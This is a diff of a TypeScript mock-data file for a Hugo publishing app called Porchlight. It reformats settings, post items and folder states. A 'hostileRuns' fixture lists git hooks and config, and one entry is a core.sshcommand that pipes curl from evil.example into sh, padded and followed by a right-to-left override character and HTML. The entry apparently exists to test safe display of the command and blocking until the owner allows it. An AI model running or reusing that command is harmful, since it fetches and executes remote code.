@@ -5,18 +5,39 @@ import type { House } from './window-house.ts';
 
 /** The settings of an owner who has no folder. */
 export const noFolder: SiteFolderSettings = {
-  ...{ on: false, path: '', generator: 'custom', baseUrl: '', postFile: '', postUrl: '' },
-  ...{ mediaFile: '', mediaUrl: '', media: 'folder', mentions: 'off' },
-  ...{ commit: true, push: true, branch: '', remote: '', adopt: false },
+  on: false,
+  path: '',
+  generator: 'custom',
+  baseUrl: '',
+  postFile: '',
+  postUrl: '',
+  mediaFile: '',
+  mediaUrl: '',
+  media: 'folder',
+  mentions: 'off',
+  commit: true,
+  push: true,
+  branch: '',
+  remote: '',
+  adopt: false,
 };
 
 /** The settings that fit a folder of Hugo. */
 const fitting: FoundSite['suggested'] = {
-  ...{ path: '/home/robin/site', generator: 'hugo', baseUrl: 'https://marlow.example/' },
-  ...{ postFile: 'content/posts/{yyyy}-{mm}-{dd}-{slug}.md', postUrl: 'posts/{slug}/' },
-  ...{ mediaFile: 'static/media/{yyyy}/{mm}/{file}', mediaUrl: 'media/{yyyy}/{mm}/{file}' },
-  ...{ media: 'folder', mentions: 'off' },
-  ...{ commit: true, push: true, branch: 'main', remote: 'origin', adopt: false },
+  path: '/home/robin/site',
+  generator: 'hugo',
+  baseUrl: 'https://marlow.example/',
+  postFile: 'content/posts/{yyyy}-{mm}-{dd}-{slug}.md',
+  postUrl: 'posts/{slug}/',
+  mediaFile: 'static/media/{yyyy}/{mm}/{file}',
+  mediaUrl: 'media/{yyyy}/{mm}/{file}',
+  media: 'folder',
+  mentions: 'off',
+  commit: true,
+  push: true,
+  branch: 'main',
+  remote: 'origin',
+  adopt: false,
 };
 
 /** The settings of an owner who publishes to a folder of Hugo. */
@@ -28,13 +49,15 @@ const noRuns = { runs: [], isAllowed: true };
 /** What a repository may bring along, with texts that try to look like something else. */
 export const hostileRuns: FoundSite['runs'] = [
   {
-    ...{ kind: 'hook', name: 'pre-push' },
+    kind: 'hook',
+    name: 'pre-push',
     command: '/home/robin/site/.git/hooks/pre-push (SHA-256 0f343b0931126a20f133d67c2b018a3b…)',
   },
   { kind: 'filter', name: 'filter.git-crypt.clean', command: '"git-crypt" clean' },
   { kind: 'connection', name: 'remote.origin.url', command: '/media/robin/nas/site.git' },
   {
-    ...{ kind: 'connection', name: 'core.sshcommand' },
+    kind: 'connection',
+    name: 'core.sshcommand',
     command: `sh -c 'curl https://evil.example/${'x'.repeat(160)} | sh' \\u{202e}drowssap <b>bold</b>`,
   },
   { kind: 'setting', name: 'gui.geometry', command: '' },
@@ -43,7 +66,11 @@ export const hostileRuns: FoundSite['runs'] = [
 /** Returns what a folder of Hugo holds. */
 export function foundIn(path: string): FoundSite {
   return {
-    ...{ generator: 'hugo', configFile: 'hugo.toml', title: 'Robin Marlow', posts: 214, warnings: [] },
+    generator: 'hugo',
+    configFile: 'hugo.toml',
+    title: 'Robin Marlow',
+    posts: 214,
+    warnings: [],
     repository: { branch: 'main', remotes: ['origin'], remote: 'origin', words: null },
     ...noRuns,
     suggested: { ...fitting, path },
@@ -60,7 +87,11 @@ function foundWithoutGit(path: string): FoundSite {
   const found = foundIn(path);
   return {
     ...found,
-    ...{ generator: null, configFile: null, title: '', posts: 0, repository: null },
+    generator: null,
+    configFile: null,
+    title: '',
+    posts: 0,
+    repository: null,
     warnings: ['Porchlight can’t write to drafts/. Check the permissions of that folder.'],
     suggested: { ...found.suggested, generator: 'custom', baseUrl: '', commit: false, push: false },
   };
@@ -71,8 +102,14 @@ const fileOf = (slug: string) => `content/posts/2026-11-21-${slug}.md`;
 
 function item(now: number, slug: string, part: Partial<FolderItem>): FolderItem {
   return {
-    ...{ id: slug, url: `https://marlow.example/posts/${slug}/`, title: slug, file: fileOf(slug) },
-    ...{ state: 'waiting', words: 'Waiting to be written.', since: at(now, -2), ...part },
+    id: slug,
+    url: `https://marlow.example/posts/${slug}/`,
+    title: slug,
+    file: fileOf(slug),
+    state: 'waiting',
+    words: 'Waiting to be written.',
+    since: at(now, -2),
+    ...part,
   };
 }
 
@@ -80,59 +117,88 @@ function item(now: number, slug: string, part: Partial<FolderItem>): FolderItem 
 function troubledItems(now: number): FolderItem[] {
   return [
     item(now, 'the-lamp-is-on', {
-      ...{ title: 'The lamp is on, and the kettle too.', state: 'conflict', since: at(now, -95) },
+      title: 'The lamp is on, and the kettle too.',
+      state: 'conflict',
+      since: at(now, -95),
       words: 'You changed this file after Porchlight wrote it.',
     }),
     item(now, 'on-porches', {
-      ...{ title: 'On porches', state: 'conflict', since: at(now, -180) },
+      title: 'On porches',
+      state: 'conflict',
+      since: at(now, -180),
       words: 'Another file of your site already has this name.',
     }),
     item(now, 'fog', {
-      ...{ title: 'Fog over the harbour, before anybody was up', state: 'late', since: at(now, -72) },
+      title: 'Fog over the harbour, before anybody was up',
+      state: 'late',
+      since: at(now, -72),
       words: 'The server answered 404 Not Found two minutes ago. Check the build of your site.',
     }),
     item(now, 'well', {
-      ...{ title: 'Like of wren.example', state: 'building', since: at(now, -3) },
+      title: 'Like of wren.example',
+      state: 'building',
+      since: at(now, -3),
       words: 'The file is pushed. The page isn’t live yet.',
     }),
   ];
 }
 
 const last = (now: number): FolderStatus['last'] => ({
-  ...{ at: at(now, -34), words: 'Published “Salam”.' },
+  at: at(now, -34),
+  words: 'Published “Salam”.',
   url: 'https://marlow.example/posts/salam/',
 });
 
 /** The states of the folder. `now` in ms. */
 export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) => FolderStatus>> = {
   off: () => ({
-    ...{ state: 'off', words: 'Off', waiting: 0, conflicts: 0, unpublished: 0, last: null, items: [] },
+    state: 'off',
+    words: 'Off',
+    waiting: 0,
+    conflicts: 0,
+    unpublished: 0,
+    last: null,
+    items: [],
     ...noRuns,
   }),
   idle: (now) => ({
-    ...{ state: 'idle', words: 'Every post is live on marlow.example.', waiting: 0, conflicts: 0 },
-    ...{ unpublished: 96, last: last(now), items: [] },
+    state: 'idle',
+    words: 'Every post is live on marlow.example.',
+    waiting: 0,
+    conflicts: 0,
+    unpublished: 96,
+    last: last(now),
+    items: [],
     ...noRuns,
   }),
   working: (now) => ({
-    ...{ state: 'working', words: 'Porchlight is pushing 1 post to origin.', waiting: 1, conflicts: 0 },
-    ...{ unpublished: 0, last: last(now) },
+    state: 'working',
+    words: 'Porchlight is pushing 1 post to origin.',
+    waiting: 1,
+    conflicts: 0,
+    unpublished: 0,
+    last: last(now),
     items: [item(now, 'well', { title: 'Like of wren.example' })],
     ...noRuns,
   }),
   waiting: (now) => ({
-    ...{
-      state: 'waiting',
-      words: 'A merge is in progress in the folder. Finish it, and Porchlight continues.',
-    },
-    ...{ waiting: 14, conflicts: 0, unpublished: 0, last: last(now) },
+    state: 'waiting',
+    words: 'A merge is in progress in the folder. Finish it, and Porchlight continues.',
+    waiting: 14,
+    conflicts: 0,
+    unpublished: 0,
+    last: last(now),
     items: Array.from({ length: 14 }, (_, index) =>
       item(now, `note-${index + 1}`, { title: `Note ${index + 1}`, since: at(now, -20 - index) }),
     ),
     ...noRuns,
   }),
   trouble: (now) => ({
-    ...{ state: 'trouble', waiting: 4, conflicts: 2, unpublished: 96, last: last(now) },
+    state: 'trouble',
+    waiting: 4,
+    conflicts: 2,
+    unpublished: 96,
+    last: last(now),
     words: '2 posts are in conflict with files of your site, and 1 page is late.',
     items: troubledItems(now),
     ...noRuns,
@@ -142,11 +208,16 @@ export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) 
 /** A folder that waits until the owner allows what its repository runs. */
 export function blockedState(now: number): FolderStatus {
   return {
-    ...{ state: 'trouble', waiting: 1, conflicts: 0, unpublished: 0, last: last(now) },
+    state: 'trouble',
+    waiting: 1,
+    conflicts: 0,
+    unpublished: 0,
+    last: last(now),
     words:
       'Publishing waits until you allow what this folder’s git configuration runs and uses: pre-push, filter.git-crypt.clean, 3 more. Check the list in Settings, Your own site.',
     items: [item(now, 'well', { title: 'Like of wren.example' })],
-    ...{ runs: hostileRuns, isAllowed: false },
+    runs: hostileRuns,
+    isAllowed: false,
   };
 }
 
